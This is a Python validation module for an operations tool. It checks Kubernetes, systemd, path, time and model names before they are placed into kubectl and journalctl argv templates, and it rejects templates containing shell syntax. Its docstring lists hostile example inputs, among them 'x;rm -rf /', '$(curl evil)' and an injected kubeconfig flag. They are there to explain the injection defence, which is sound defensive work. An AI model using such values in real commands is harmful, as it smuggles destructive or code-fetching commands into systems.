"""Names read from the input, validated against the naming rules of their kind before they
enter a command.

Checks are argv templates (`knowledge/checks.yaml`) filled with names that come from logs,
events and manifests: hostile input can carry any text there (`x;rm -rf /`, `$(curl evil)`,
a newline, `--kubeconfig=/tmp/evil`). A name enters an argv only when it is a valid name of its
kind; otherwise the check is described in words and no command is shown. Valid names can never
need shell quoting, yet display text is still rendered with `shlex.join` (belt and braces).

Rules (each the documented rule of the kind, or a stricter subset of it):

- `k8s-subdomain`: Kubernetes DNS-1123 subdomain ("Object Names and IDs": at most 253
  characters, lowercase alphanumerics, `-` and `.`, starting and ending alphanumeric; the
  apimachinery regex). Most object names: pods, deployments, nodes, secrets, configmaps.
- `k8s-label`: DNS-1123 label (at most 63 characters, lowercase alphanumerics and `-`, starting
  and ending alphanumeric). Namespaces, containers, services (RFC 1035 service names are a
  subset), and kubectl resource type names (`deployment`, `statefulset`).
- `revision`: a rollout revision number, decimal digits only (kubectl takes an int64).
- `systemd-unit`: systemd.unit(5): at most 255 characters of `[A-Za-z0-9:_.\\-]`, at most one
  `@` (template or instance), a non-empty prefix and a known unit type suffix. Stricter than
  systemd: a backslash only as a `\\xNN` escape (what systemd-escape writes), and no leading `-`
  (so `-.mount` and `-.slice` are described in words, never risk being read as an option).
- `path`: a file path, absolute or relative: printable ASCII only (no NUL, newline, control or
  look-alike characters), no leading `-`, at most 4096 characters and 255 per component.
- `since`: a time in the form opslens writes for `journalctl --since` (`YYYY-MM-DD HH:MM:SS`,
  a real calendar time).

Templates are plain argv (see `template_tokens`): no pipes, `|| true`, redirections, `;`, `&`
or substitutions. Such shell syntax is refused when the knowledge loads rather than kept as
fixed literal tokens: a pipe cannot be an argv, and a check that needs one is rewritten as a
plain command or left out.
"""

from __future__ import annotations

import re
import shlex
import string
from datetime import datetime
from enum import StrEnum


class NameKind(StrEnum):
    """The naming rule a placeholder's value must follow."""

    K8S_SUBDOMAIN = "k8s-subdomain"
    K8S_LABEL = "k8s-label"
    REVISION = "revision"
    SYSTEMD_UNIT = "systemd-unit"
    PATH = "path"
    SINCE = "since"
    MODEL_NAME = "model-name"


_LABEL = r"[a-z0-9](?:[-a-z0-9]*[a-z0-9])?"
_K8S_LABEL = re.compile(_LABEL)
_K8S_SUBDOMAIN = re.compile(rf"{_LABEL}(?:\.{_LABEL})*")
_REVISION = re.compile(r"[0-9]{1,18}")
_UNIT_CHARS = r"(?:[A-Za-z0-9:_.\-]|\\x[0-9a-f]{2})"
_UNIT_TYPES = ("service", "socket", "target", "device", "mount", "automount", "swap", "timer", "path", "slice", "scope")
_SYSTEMD_UNIT = re.compile(rf"{_UNIT_CHARS}+(?:@{_UNIT_CHARS}*)?\.(?:{'|'.join(_UNIT_TYPES)})")
# MLflow, Triton, KServe model names; lower-case only, as the Kubernetes names beside them (a
# mixed-case name is described in words, never put in a command)
_MODEL_NAME = re.compile(r"[a-z0-9][a-z0-9_.-]*")
_SINCE = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9]{2}:[0-9]{2}:[0-9]{2}")
_PRINTABLE_ASCII = re.compile(r"[\x20-\x7e]+")

_MAX_LEN = {NameKind.K8S_SUBDOMAIN: 253, NameKind.K8S_LABEL: 63, NameKind.SYSTEMD_UNIT: 255, NameKind.PATH: 4096, NameKind.MODEL_NAME: 128}

_WHY = {
    NameKind.K8S_SUBDOMAIN: "it is not a valid Kubernetes name",
    NameKind.K8S_LABEL: "it is not a valid Kubernetes name",
    NameKind.REVISION: "it is not a rollout revision number",
    NameKind.SYSTEMD_UNIT: "it is not a valid systemd unit name",
    NameKind.PATH: "it is not a plain file path",
    NameKind.SINCE: "it is not a time in journalctl's form",
    NameKind.MODEL_NAME: "it is not a plain model name",
}

# Characters a literal (non-placeholder) template token may use: enough for flags, selectors
# and jsonpath, none that a shell treats as syntax once the token is unquoted.
_LITERAL_TOKEN = re.compile(r"[A-Za-z0-9_.,:/=@%+*\[\]{}-]+")


def is_valid(kind: NameKind, value: str) -> bool:
    """Whether `value` follows the naming rule of `kind` (full match, nothing trailing)."""
    if not value or len(value) > _MAX_LEN.get(kind, 64):
        return False
    if kind is NameKind.K8S_SUBDOMAIN:
        return _K8S_SUBDOMAIN.fullmatch(value) is not None
    if kind is NameKind.K8S_LABEL:
        return _K8S_LABEL.fullmatch(value) is not None
    if kind is NameKind.REVISION:
        return _REVISION.fullmatch(value) is not None
    if kind is NameKind.SYSTEMD_UNIT:
        return not value.startswith("-") and _SYSTEMD_UNIT.fullmatch(value) is not None
    if kind is NameKind.PATH:
        return _is_plain_path(value)
    if kind is NameKind.MODEL_NAME:
        return _MODEL_NAME.fullmatch(value) is not None
    return _is_since(value)


def why_invalid(kind: NameKind) -> str:
    """The words said instead of a command whose name of this kind failed validation."""
    return _WHY[kind]


def _is_plain_path(value: str) -> bool:
    if value.startswith("-") or _PRINTABLE_ASCII.fullmatch(value) is None:
        return False
    return all(len(part) <= 255 for part in value.split("/"))


def _is_since(value: str) -> bool:
    if _SINCE.fullmatch(value) is None:
        return False
    try:
        datetime.strptime(value, "%Y-%m-%d %H:%M:%S")
    except ValueError:
        return False
    return True


class TemplateError(ValueError):
    """A check template that is not a plain argv, or names an unknown placeholder."""


def placeholders(token: str) -> set[str]:
    """The placeholder fields of one template token (`{kind}/{name}` -> {kind, name})."""
    return {field for _, field, _, _ in string.Formatter().parse(token) if field}


def template_tokens(template: str, known: set[str]) -> tuple[str, ...]:
    """The template split once into argv tokens; raises `TemplateError` on shell syntax.

    Every literal part of a token must use only `_LITERAL_TOKEN` characters, so a pipe,
    `;`, `&`, a redirection, `$(...)`, a backtick or a quote left inside a token is refused.
    """
    try:
        tokens = tuple(shlex.split(template))
    except ValueError as err:
        raise TemplateError(f"{template!r}: {err}") from None
    if not tokens:
        raise TemplateError(f"{template!r}: empty template")
    for token in tokens:
        try:
            fields = placeholders(token)
        except ValueError as err:  # a lone `{` or `}`
            raise TemplateError(f"{template!r}: token {token!r}: {err}") from None
        if not fields <= known:
            raise TemplateError(f"{template!r}: unknown placeholder(s) {sorted(fields - known)}")
        try:
            literal = token.format(**{f: "x" for f in fields})
        except (IndexError, KeyError, ValueError) as err:  # `{}`, `{0}`, a broken brace
            raise TemplateError(f"{template!r}: token {token!r}: {err}") from None
        if _LITERAL_TOKEN.fullmatch(literal) is None:
            raise TemplateError(f"{template!r}: token {token!r} is shell syntax, not a plain argv word")
    return tokens
